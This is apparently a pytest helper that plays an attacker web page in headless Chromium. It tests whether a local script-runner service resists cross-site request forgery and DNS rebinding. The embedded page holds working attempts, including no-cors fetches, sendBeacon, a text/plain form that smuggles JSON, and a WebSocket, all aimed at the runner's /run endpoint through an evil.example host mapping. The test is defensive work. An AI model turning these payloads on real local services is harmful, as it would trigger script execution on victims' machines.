"""A web site in somebody's browser that would like to run scripts on their machine."""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import queue
import shutil
import signal
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser"))), None)
BROWSER_SECONDS = 60.0

needs_chromium = pytest.mark.skipif(
    CHROMIUM is None, reason="there is no chromium here (Debian: apt-get install chromium)"
)

PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const RUNNER = %(runner)s;
const RUN = JSON.stringify({scriptId: "runs", mode: "sync"});
const TRIES = {};

function fetched(path, options) {
  return async () => {
    const answer = await fetch(RUNNER + path, options);
    return answer.type === "opaque" ? "opaque" : answer.status + " " + await answer.text();
  };
}
function loaded(tag, path) {
  return () => new Promise(resolve => {
    const element = document.createElement(tag);
    element.onload = () => resolve("loaded");
    element.onerror = () => resolve("error");
    element.src = RUNNER + path;
    document.body.append(element);
  });
}
function submitted(enctype, name, value) {
  return () => new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    frame.onload = () => resolve("submitted");
    const form = document.createElement("form");
    Object.assign(form, {action: RUNNER + "/run", method: "POST", enctype, target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {type: "hidden", name, value});
    form.append(field);
    document.body.append(form);
    form.submit();
  });
}
const json = {"content-type": "application/json"}, text = {"content-type": "text/plain"};
TRIES.fetch_json = fetched("/run", {method: "POST", headers: json, body: RUN});
TRIES.fetch_text = fetched("/run", {method: "POST", headers: text, body: RUN});
TRIES.fetch_no_cors = fetched("/run", {method: "POST", mode: "no-cors", headers: text, body: RUN});
const blob = new Blob([RUN]);
TRIES.fetch_no_type = fetched("/run", {method: "POST", mode: "no-cors", body: blob});
TRIES.beacon = () => navigator.sendBeacon(RUNNER + "/run", RUN) ? "sent" : "not sent";
TRIES.form_urlencoded = submitted("application/x-www-form-urlencoded", "scriptId", "runs");
TRIES.form_multipart = submitted("multipart/form-data", "scriptId", "runs");
TRIES.form_text = submitted("text/plain", RUN.slice(0, -1) + ',"x":"', '"}');
TRIES.read_job = fetched("/jobs/%(job)s");
TRIES.cancel_job = fetched("/jobs/%(job)s/cancel", {method: "POST", mode: "no-cors"});
TRIES.image = loaded("img", "/healthz");
TRIES.script = loaded("script", "/jobs/%(job)s");
TRIES.web_socket = () => new Promise(resolve => {
  const origin = new URL(RUNNER || "/", location.href);
  const socket = new WebSocket("ws://" + origin.host + "/run");
  socket.onopen = () => resolve("open");
  socket.onerror = () => resolve("error");
});
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(TRIES)) {
    try { results[name] = await attempt(); } catch (error) { results[name] = error.name; }
  }
  await fetch("/attacker/results", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""


class Attacker:
    """A web site on this machine. What is not its page it passes on to the runner.

    So a page of it reaches the runner by its own name and port: what a name that is rebound does.
    """

    def __init__(self) -> None:
        """Listen on a free port."""
        self.runner_url = ""
        self._results: queue.SimpleQueue[dict[str, str]] = queue.SimpleQueue()
        self._pages: dict[str, bytes] = {}
        attacker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                page = attacker._pages.get(self.path)
                if page is None:
                    attacker._pass_on(self)
                else:
                    _answer(self, 200, "text/html", page)

            def do_POST(self) -> None:
                if self.path != "/attacker/results":
                    attacker._pass_on(self)
                    return
                attacker._results.put(json.loads(_body(self)))
                _answer(self, 204, "text/plain", b"")

            def log_message(self, *_: Any) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._server.server_port
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        """Stop listening."""
        self._server.shutdown()
        self._server.server_close()

    def _pass_on(self, request: BaseHTTPRequestHandler) -> None:
        where = httpx.URL(self.runner_url)
        connection = http.client.HTTPConnection(where.host, where.port, timeout=BROWSER_SECONDS)
        with contextlib.closing(connection):
            connection.putrequest(
                request.command, request.path, skip_host=True, skip_accept_encoding=True
            )
            for name, value in request.headers.items():
                connection.putheader(name, value)
            connection.endheaders(_body(request))
            answer = connection.getresponse()
            content_type = answer.getheader("content-type", "text/plain")
            _answer(request, answer.status, content_type, answer.read())

    def visit(self, folder: Path, origin: str, target: str, job_id: str) -> dict[str, str]:
        """Have somebody visit the page; returns how each of its tries ended.

        Args:
            folder: Where the browser may keep its profile.
            origin: What the page is visited as.
            target: The runner as the page calls it; empty for the page's own origin.
            job_id: A job that is there.
        """
        page = PAGE % {"runner": json.dumps(target), "job": job_id}
        self._pages["/attacker"] = page.encode()
        with _browser(folder, f"{origin}/attacker"):
            return self._results.get(timeout=BROWSER_SECONDS)


def _body(request: BaseHTTPRequestHandler) -> bytes:
    return request.rfile.read(int(request.headers.get("content-length", 0)))


def _answer(request: BaseHTTPRequestHandler, status: int, content_type: str, body: bytes) -> None:
    request.send_response(status)
    request.send_header("content-type", content_type)
    request.send_header("content-length", str(len(body)))
    request.end_headers()
    request.wfile.write(body)


@contextlib.contextmanager
def _browser(folder: Path, url: str) -> Iterator[None]:
    """Chromium on a page, with a new profile; evil.example is this machine to it."""
    assert CHROMIUM is not None
    command = [
        CHROMIUM,
        "--headless",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-dev-shm-usage",
        "--disable-gpu",
        "--no-first-run",
        "--no-proxy-server",
        "--remote-debugging-port=0",
        "--host-resolver-rules=MAP evil.example 127.0.0.1",
        f"--user-data-dir={folder / 'profile'}",
        # Its sandbox does not work as root; the pages are ours.
        *(["--no-sandbox"] if os.geteuid() == 0 else []),
        url,
    ]
    process = subprocess.Popen(
        command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
    )
    try:
        yield
    finally:
        os.killpg(process.pid, signal.SIGKILL)
        process.wait()
